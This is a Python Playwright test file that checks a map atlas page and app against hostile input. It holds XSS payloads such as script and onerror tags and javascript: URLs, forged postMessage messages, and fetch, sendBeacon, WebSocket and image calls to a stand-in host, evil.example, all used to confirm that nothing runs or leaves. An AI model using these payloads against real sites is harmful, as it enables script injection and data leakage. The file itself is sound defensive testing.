"""Hostile texts, addresses and messages in a real browser: nothing runs, nothing leaves, the map stays usable."""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Browser, Frame, Page, Route, expect

from geo.io.folder import DATA, read_dataset
from geo.map.document import write_document
from geo.model.dataset import Dataset
from geo.timeline.view import View
from tests.hostile_cases import TEXTS, write_texts

ROOT = Path(__file__).parents[2]
CROSSING = "thanh-thuy-thien-bao"
PAGES = ("", "history", "provinces", "changes", "data", "own_data", "quality", "about")
# What an address may carry; each stands for a parameter's value or for the whole of it.
WORDS = (
    "<script>window.hacked=1</script>", "<img src=x onerror=window.hacked=1>", "javascript:window.hacked=1",
    "![x](https://evil.example/picture.png)", "[x](https://evil.example/)", "www.evil.example", "${window.hacked=1}",
    "`window.hacked=1`", "\u202etxet", "\x00", "%", "%zz", "%ff%fe", "&&&===", "__proto__=1", "constructor",
    "a" * 60_000,
)  # fmt: skip
HASHES = (
    *WORDS,
    *(
        f"{key}={word}"
        for key in ("at", "from", "status", "lang", "crossing", "layers", "map", "base")
        for word in (WORDS[1], "__proto__", "constructor", "%E0%A4%A", "9999-12-31", "99/99/999", "0/0/0", "-1")
    ),
)
# What another window may post; none of it is a view.
MESSAGES = """[
    null, 7, "atlas:view", [], {}, {type: "atlas:view"}, {type: "atlas:view", query: 7},
    {type: "atlas:view", query: null},
    {type: "atlas:view", query: {at: "1999-01-01"}}, {type: "atlas:view", query: ["at=1999-01-01"]},
    {type: "atlas:view", query: "at=1999-01-01&x=" + "x".repeat(5000)}, {type: ["atlas:view"], query: "at=1999-01-01"},
    {type: "atlas:ready", query: 7}, {type: "atlas:known", query: "<img src=x onerror=window.hacked=1>"},
    {type: "__proto__", query: "at=1999-01-01"}, new Map([["type", "atlas:view"]]), new ArrayBuffer(8),
]"""


@dataclass
class Watch:
    """What a page did that it must not do."""

    hosts: set[str]
    found: list[str] = field(default_factory=list)

    def over(self, page: Page) -> None:
        """Look at everything that a page does from now on."""
        page.on("pageerror", lambda error: self.found.append(f"error: {error}"))
        page.on("request", lambda request: self.look(request.url))
        page.on("popup", lambda other: self.found.append(f"popup: {other.url}"))

        def refuse(dialog: object) -> None:
            self.found.append("dialog")
            dialog.dismiss()  # type: ignore[attr-defined]

        page.on("dialog", refuse)
        page.on("console", lambda said: self.found.append(said.text) if "Content Security" in said.text else None)

    def look(self, url: str) -> None:
        """Note a request that leaves."""
        parts = urlsplit(url)
        if parts.scheme not in ("file", "data", "blob") and parts.hostname not in self.hosts:
            self.found.append(f"request: {url[:200]}")


def is_hacked(page: Page) -> bool:
    return any(frame.evaluate("'hacked' in window") for frame in page.frames)


@pytest.fixture(scope="session")
def hostile_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Give a project whose data hold a hostile text in every field that people fill."""
    root = tmp_path_factory.mktemp("hostile")
    for name in ("geo", "pages", "data", ".streamlit"):
        shutil.copytree(ROOT / name, root / name, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(ROOT / "app.py", root)
    write_texts(TEXTS)(root / "data")
    return root


@pytest.fixture(scope="session")
def hostile(hostile_folder: Path) -> Dataset:
    return read_dataset(hostile_folder / "data")


@pytest.fixture(scope="session")
def hostile_file(hostile: Dataset, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("file") / "map.html"
    write_document(hostile, View(date(2020, 1, 1), lang="en"), path)
    return path


@pytest.fixture(scope="session")
def our_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("file") / "map.html"
    write_document(read_dataset(DATA), View(date(2020, 1, 1), lang="en"), path)
    return path


@pytest.fixture
def watched(browser: Browser) -> Iterator[Page]:
    """Open a page that may load nothing from any host but its own; what it did else fails the test."""
    context = browser.new_context(viewport={"width": 1440, "height": 900}, accept_downloads=True, locale="en-GB")
    page = context.new_page()
    watch = Watch({"127.0.0.1"})
    watch.over(page)
    yield page
    assert not is_hacked(page)
    context.close()
    assert watch.found == []


def see_it_works(page: Page | Frame) -> None:
    """Move the time bar by a day and back, as a reader does."""
    bar, root = page.locator("input[type=range].at"), page.locator("html")
    expect(page.locator("html.atlas-ready")).to_have_count(1)  # a key before that finds nobody who listens
    before = root.get_attribute("data-at")
    assert before
    assert re.fullmatch(r"\d{4}-\d\d-\d\d", before)
    keys = ["ArrowRight", "ArrowLeft"] if before < "2026-01-01" else ["ArrowLeft", "ArrowRight"]
    bar.press(keys[0])
    expect(root).not_to_have_attribute("data-at", before)
    bar.press(keys[1])
    expect(root).to_have_attribute("data-at", before)


def test_texts_stay_texts_in_every_card_of_the_file(watched: Page, hostile_file: Path, hostile: Dataset) -> None:
    watched.goto(hostile_file.as_uri())
    card = watched.locator(".atlas-detail")
    elements: set[str] = set()
    for crossing in hostile.crossings:
        for lang in ("vi", "en", "zh"):
            watched.evaluate("words => { location.hash = words }", f"#at=2026-01-01&lang={lang}&crossing={crossing.id}")
            name = " – ".join(getattr(gate.names, lang) or gate.names.en for gate in crossing.gates)
            assert card.locator("h2").text_content() == name
        elements |= set(card.evaluate("card => [...card.querySelectorAll('*')].map(each => each.localName)"))
    assert not elements & {"script", "img", "iframe", "input", "form", "style", "link", "meta", "base", "object"}
    assert elements <= {
        "a",
        "b",
        "button",
        "circle",
        "div",
        "h2",
        "li",
        "ol",
        "p",
        "path",
        "rect",
        "span",
        "svg",
        "time",
    }
    see_it_works(watched)


def test_texts_stay_texts_in_provinces_search_layers_and_picture(watched: Page, hostile_file: Path) -> None:
    watched.goto(f"{hostile_file.as_uri()}#at=2026-01-01&lang=en&layers=works,twinned,scenic")
    for area in watched.locator(".atlas-province:not(.absent)").all():
        area.dispatch_event("click")
        expect(watched.locator(".atlas-detail h2")).not_to_be_empty()
    for shape in watched.locator(".atlas-works, .atlas-twinned").all()[:20]:
        shape.focus()
        expect(watched.locator(".atlas-tip").last).to_be_visible()
    for words in ("<script", "<img src=x onerror=window.hacked=1>", "javascript:", "${", "{{"):
        watched.get_by_role("combobox").fill(words)
        expect(watched.locator("#atlas-found")).to_be_visible()
    watched.get_by_role("combobox").press("Escape")
    with watched.expect_download() as saved:
        watched.locator(".atlas-picture").click()
    assert saved.value.suggested_filename.endswith(".png")
    watched.pdf()
    see_it_works(watched)


def test_links_go_to_the_web_only_and_tell_nothing_of_us(watched: Page, our_file: Path) -> None:
    watched.goto(f"{our_file.as_uri()}#at=2026-01-01&crossing={CROSSING}")
    links = watched.locator(".atlas-detail a")
    expect(links.first).to_be_visible()
    for link in links.all():
        assert re.match("https?://", link.get_attribute("href") or "")
        assert link.get_attribute("target") == "_blank"
        assert set((link.get_attribute("rel") or "").split()) == {"noopener", "noreferrer"}


@pytest.mark.parametrize("words", HASHES, ids=lambda words: ascii(words)[:50])
def test_no_hash_breaks_the_file(watched: Page, our_file: Path, words: str) -> None:
    watched.goto(f"{our_file.as_uri()}#{words}")
    expect(watched.locator("html")).to_have_class(re.compile("atlas-ready"))
    see_it_works(watched)
    watched.evaluate("location.hash = '#at=2001-02-03'")
    expect(watched.locator("html")).to_have_attribute("data-at", "2001-02-03")
    watched.evaluate("words => { location.hash = words }", words)
    see_it_works(watched)


def test_the_file_obeys_its_own_window_only(watched: Page, our_file: Path, tmp_path: Path) -> None:
    evil = f"""<script>
        const map = parent.frames[0]
        for (const message of {MESSAGES}) map.postMessage(message, "*")
        map.postMessage({{type: "atlas:view", query: "at=1999-01-01"}}, "*")
        parent.postMessage("sent", "*")
    </script>"""
    host = tmp_path / "host.html"
    host.write_text(
        f"""<!DOCTYPE html>
        <script>
            addEventListener("message", ({{ data }}) => {{ if (data === "sent") document.body.className = data }})
        </script>
        <iframe sandbox="allow-scripts" src="{our_file.as_uri()}#at=2001-01-01" width="1200" height="800"></iframe>
        <iframe id="other"></iframe>"""
    )
    watched.goto(host.as_uri())
    root = watched.frame_locator("iframe >> nth=0").locator("html")
    expect(root).to_have_class(re.compile("atlas-ready"), timeout=30_000)
    before = root.get_attribute("data-at")
    watched.evaluate("evil => { document.querySelector('#other').srcdoc = evil }", evil)
    expect(watched.locator("body")).to_have_class("sent")
    watched.evaluate(f"() => {{ for (const message of {MESSAGES}) frames[0].postMessage(message, '*') }}")
    watched.wait_for_timeout(300)
    assert root.get_attribute("data-at") == before
    watched.evaluate("() => frames[0].postMessage({type: 'atlas:view', query: 'at=2003-04-05'}, '*')")
    expect(root).to_have_attribute("data-at", "2003-04-05")
    see_it_works(watched.frames[1])


def test_what_is_put_into_the_document_neither_runs_nor_loads(browser: Browser, our_file: Path) -> None:
    context = browser.new_context()
    page = context.new_page()
    left: list[str] = []

    def note(route: Route) -> None:  # what the policy stops does not come this far
        left.append(route.request.url)
        route.abort()

    page.route(re.compile("^(http|ws)"), note)
    page.goto(our_file.as_uri())
    expect(page.locator("html")).to_have_class(re.compile("atlas-ready"))
    page.evaluate(
        """texts => {
            for (const text of texts) {
                const place = document.createElement("div")
                place.innerHTML = text
                document.body.append(place)
            }
            const script = document.createElement("script")
            script.textContent = "window.hacked = 1"
            const outside = document.createElement("script")
            outside.src = "https://evil.example/script.js"
            document.head.append(script, outside)
            setTimeout(() => {
                try { new Function("window.hacked = 1")() } catch { /* as it should */ }
                try { setTimeout("window.hacked = 1") } catch { /* as it should */ }
                fetch("https://evil.example/").catch(() => {})
                navigator.sendBeacon("https://evil.example/", "x")
                try { new WebSocket("wss://evil.example/") } catch { /* as it should */ }
                new Image().src = "https://evil.example/picture.png"
                document.querySelector("form")?.submit()
                document.querySelector("a[href^=javascript]")?.click()
            })
        }""",
        [text for text in TEXTS if "<meta" not in text],  # it leads away, and no policy keeps it
    )
    page.wait_for_timeout(1000)
    assert not is_hacked(page)
    assert left == []
    # The form's blocked way out keeps playwright waiting, therefore not see_it_works().
    day = """() => {
        const bar = document.querySelector("input[type=range].at")
        bar.value = Number(bar.value) - 1
        bar.dispatchEvent(new Event("input", { bubbles: true }))
        return document.documentElement.dataset.at
    }"""
    assert page.evaluate(day) == "2019-12-31"
    context.close()


# The app


@pytest.fixture(scope="module")
def hostile_url(hostile_folder: Path, run_once: Callable[[Path], AbstractContextManager[str]]) -> Iterator[str]:
    with run_once(hostile_folder) as url:
        yield url


@pytest.mark.parametrize("name", PAGES, ids=lambda name: name or "map")
def test_texts_stay_texts_on_every_page(watched: Page, hostile_url: str, name: str) -> None:
    watched.goto(f"{hostile_url}/{name}?at=2026-01-01&lang=en&crossing={CROSSING}")
    settle(watched)
    expect(watched.get_by_test_id("stException")).to_have_count(0)
    assert (
        watched.evaluate("document.querySelectorAll('img[src*=evil], a[href*=evil], a[href^=javascript]').length") == 0
    )
    if not name:
        frame = document_of(watched)
        expect(frame.locator("html")).to_have_attribute("data-at", "2026-01-01")
        see_it_works(frame)
        assert frame.evaluate("window.origin") == "null"
        assert frame.evaluate("(() => { try { return parent.document } catch { return null } })()") is None


@pytest.mark.parametrize("word", WORDS, ids=lambda word: ascii(word)[:50])
def test_no_address_breaks_the_page(watched: Page, app_url: str, word: str) -> None:
    query = "&".join(f"{key}={quote(word[:3000])}" for key in ("status", "crossing", "at", word[:40]))
    watched.goto(f"{app_url}/?{query}")
    settle(watched)
    expect(watched.get_by_test_id("stException")).to_have_count(0)
    expect(watched.get_by_test_id("stAlert")).to_be_visible()
    assert (
        watched.evaluate("document.querySelectorAll('img[src*=evil], a[href*=evil], a[href^=javascript]').length") == 0
    )
    see_it_works(document_of(watched))


def test_the_page_obeys_its_own_frame_only_and_no_malformed_message(watched: Page, app_url: str) -> None:
    watched.goto(f"{app_url}/?at=2014-06-01&lang=en")
    settle(watched)
    document = document_of(watched)
    expect(document.locator("html")).to_have_attribute("data-at", "2014-06-01")
    sandbox = watched.locator(".atlas-frame iframe").get_attribute("sandbox") or ""
    assert "allow-scripts" in sandbox
    assert not {"allow-same-origin", "allow-top-navigation", "allow-forms", "allow-modals"} & set(sandbox.split())
    document.evaluate(f"() => {{ for (const message of {MESSAGES}) parent.postMessage(message, '*') }}")
    watched.evaluate(f"() => {{ for (const message of {MESSAGES}) window.postMessage(message, '*') }}")
    watched.evaluate("""() => {
        window.postMessage({type: "atlas:view", query: "at=1999-01-01"}, "*")
        const other = document.createElement("iframe")
        other.srcdoc = "<script>parent.postMessage({type: 'atlas:view', query: 'at=1999-01-01'}, '*')</script>"
        document.body.append(other)
    }""")
    watched.wait_for_timeout(1000)
    settle(watched)
    assert "at=2014-06-01" in watched.url
    expect(watched.get_by_test_id("stException")).to_have_count(0)
    document.get_by_role("button", name="Next event").click()
    expect(watched).not_to_have_url(re.compile("at=2014-06-01"))
    at = document.locator("html").get_attribute("data-at")
    expect(watched).to_have_url(re.compile(f"at={at}"))


def settle(page: Page) -> None:
    expect(page.get_by_test_id("stApp")).to_have_attribute("data-test-script-state", "notRunning", timeout=30_000)


def document_of(page: Page) -> Frame:
    expect(page.frame_locator(".atlas-frame iframe").locator("html")).to_have_class(
        re.compile("atlas-ready"), timeout=30_000
    )
    return next(frame for frame in page.frames if frame.parent_frame)
